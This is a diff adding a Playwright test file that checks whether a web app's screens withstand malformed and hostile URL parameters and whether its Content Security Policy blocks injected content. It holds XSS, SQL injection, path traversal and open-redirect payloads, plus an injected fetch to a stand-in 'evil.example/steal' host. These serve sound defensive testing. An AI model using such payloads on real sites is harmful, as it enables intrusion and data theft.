@@ -1,0 +1,193 @@
+import type { Page } from '@playwright/test'
+import { type Screen, screens } from './screens.ts'
+import { expect, test } from './test.ts'
+
+/** What people, links and attackers put where a value belongs. Encoded as it stands in an address. */
+const values = {
+  'an empty value': '',
+  'the same field twice': 'a&$=b',
+  'far too much': 'a'.repeat(6000),
+  'an encoding that breaks off': '%E0%A4%A',
+  'a stray percent sign': '100%',
+  'half a character and none': '%ED%A0%80%00%F0%9F',
+  'a script': encodeURIComponent('"><img src=x onerror=alert(1)>'),
+  'a script as address': 'javascript:alert(1)//',
+  'another site': '//evil.example/',
+  'the way up': '..%2F..%2F..%2Fetc%2Fpasswd',
+  'names of the language': '__proto__&constructor=$&toString=1',
+  'half a JSON': encodeURIComponent('{"a":[1,'),
+  'a query of the database': encodeURIComponent("1' or '1'='1"),
+  'a number beyond all': '-1e999',
+  'a day that is none': '2026-02-30T99:99:99Z',
+}
+
+const byArea = new Map<string, [string, Screen][]>()
+for (const entry of Object.entries(screens)) {
+  const area = entry[1].area
+  byArea.set(area, [...(byArea.get(area) ?? []), entry])
+}
+
+for (const [area, list] of byArea)
+  test.describe(`screens of ${area}`, () => {
+    test.use({ as: area === 'login' ? undefined : 'student' })
+    test.setTimeout(180_000)
+    test('show a page whatever their addresses hold', async ({ page }) => {
+      const faults = watch(page)
+      await start(page)
+      for (const [address, screen] of list)
+        for (const [name, query] of queriesFor(screen)) {
+          const text = await visit(page, address + query)
+          expect.soft(text, `${address} with ${name}`).toMatch(/\S/)
+          expect.soft(faults.splice(0), `${address} with ${name}`).toEqual([])
+        }
+    })
+  })
+
+test('addresses where nothing is show a page that says so', async ({ page }) => {
+  const faults = watch(page)
+  await start(page)
+  for (const address of [
+    '/nothing',
+    '/pages',
+    '/constructor',
+    '/__proto__',
+    '/%E0%A4%A',
+    '/pages/..',
+  ])
+    expect(await visit(page, address), address).toMatch(/\S/)
+  expect(faults).toEqual([])
+})
+
+test('so do they when the server is asked for them', async ({ page, request, baseURL }) => {
+  for (const address of [
+    '/%',
+    '/pages/%E0%A4%A',
+    '/pages/%00',
+    `/${'a'.repeat(4000)}`,
+    '//evil.example/',
+  ])
+    expect((await request.get(baseURL + address)).headers()['content-type'], address).toMatch(
+      /^text\/html/,
+    )
+  await page.goto('/pages/%E0%A4%A?url=%')
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  expect(new URL(page.url()).hostname).toBe('localhost')
+})
+
+test('the policy stops what was smuggled into a page', async ({ page, baseURL }) => {
+  const asked: string[] = []
+  page.on('requestfinished', (request) => {
+    const { origin } = new URL(request.url())
+    if (origin !== baseURL && origin !== 'null') asked.push(request.url())
+  })
+  await page.goto('/pages/tab/index/index')
+  const stopped = await page.evaluate(async () => {
+    const violations: string[] = []
+    document.addEventListener('securitypolicyviolation', (event) =>
+      violations.push(event.effectiveDirective),
+    )
+    const put = <K extends keyof HTMLElementTagNameMap>(
+      tag: K,
+      fields: Partial<HTMLElementTagNameMap[K]>,
+    ) => document.body.append(Object.assign(document.createElement(tag), fields))
+    put('script', { textContent: 'window.smuggled = 1' })
+    put('script', { src: 'https://evil.example/x.js' })
+    put('img', { src: 'https://evil.example/pixel.png' })
+    put('object', { data: 'https://evil.example/x.swf' })
+    put('style', { textContent: 'body { display: none }' })
+    const holder = document.createElement('div')
+    holder.innerHTML =
+      '<img src="data:," onerror="window.smuggled = 2"><base href="https://evil.example/">'
+    document.body.append(holder)
+    // Out of turn: what the test itself evaluates is let through.
+    setTimeout(() => {
+      try {
+        // biome-ignore lint/security/noGlobalEval: it must not work
+        globalThis.eval('window.smuggled = 3')
+      } catch {
+        violations.push('eval')
+      }
+    })
+    await fetch('https://evil.example/steal').catch(() => {})
+    await new Promise((resolve) => setTimeout(resolve, 500))
+    return { violations, smuggled: (window as { smuggled?: number }).smuggled }
+  })
+  expect(stopped.smuggled).toBeUndefined()
+  expect([...new Set(stopped.violations)].sort()).toEqual(
+    [
+      'base-uri',
+      'connect-src',
+      'eval',
+      'img-src',
+      'object-src',
+      'script-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-elem',
+    ].sort(),
+  )
+  expect(asked).toEqual([])
+})
+
+async function start(page: Page) {
+  await page.goto('/pages/tab/my/my')
+  await page.waitForLoadState('networkidle')
+}
+
+/** Goes there inside the app, as a link would, and answers what the page says once it has come to rest. */
+async function visit(page: Page, href: string) {
+  await page.evaluate(async (to) => {
+    history.pushState(null, '', to)
+    dispatchEvent(new PopStateEvent('popstate'))
+    // A page whose code is on its way shows after 200 ms that it is loading.
+    await new Promise((resolve) => setTimeout(resolve, 250))
+  }, href)
+  const settled = await page
+    .waitForFunction(
+      () => {
+        if (location.pathname.startsWith('/cas/')) return document.body.textContent
+        const mains = [...document.querySelectorAll('main')]
+        const shown = mains.find((main) => main.offsetParent !== null)
+        return shown?.querySelector('.skeleton') ? '' : shown?.textContent
+      },
+      undefined,
+      { timeout: 8000 },
+    )
+    .then((handle) => handle.jsonValue())
+    .catch(() => '')
+  // The central login is the server's page: from there one begins anew.
+  if (new URL(page.url()).pathname.startsWith('/cas/')) await start(page)
+  return settled
+}
+
+/** Exceptions, and pages that broke. What the server refuses is said by the browser too, and is as it should be. */
+function watch(page: Page) {
+  const faults: string[] = []
+  page.on('pageerror', (error) => faults.push(error.message))
+  page.on('dialog', (dialog) => {
+    faults.push(`dialog: ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  page.on('console', (message) => {
+    const text = message.text()
+    if (message.type() === 'error' && !text.startsWith('Failed to load resource')) faults.push(text)
+  })
+  page.on('framenavigated', (frame) => {
+    if (frame === page.mainFrame() && new URL(frame.url()).hostname !== 'localhost')
+      faults.push(`left for ${frame.url()}`)
+  })
+  return faults
+}
+
+/** A screen that reads nothing of its address is asked once with everything, another one with each value for itself. */
+function queriesFor({ search = {} }: Screen): [string, string][] {
+  const fields = Object.keys(search)
+  const ask = (names: string[], value: string) =>
+    `?${names.map((name) => `${name}=${value.replaceAll('$', name)}`).join('&')}`
+  const all = Object.values(values).map((value, at) => ask([`field${at}`, 'isHideTabbar'], value))
+  if (fields.length === 0) return [['everything at once', all.join('&').replaceAll('&?', '&')]]
+  return [
+    ['nothing', ''],
+    ...Object.entries(values).map(([name, value]): [string, string] => [name, ask(fields, value)]),
+  ]
+}
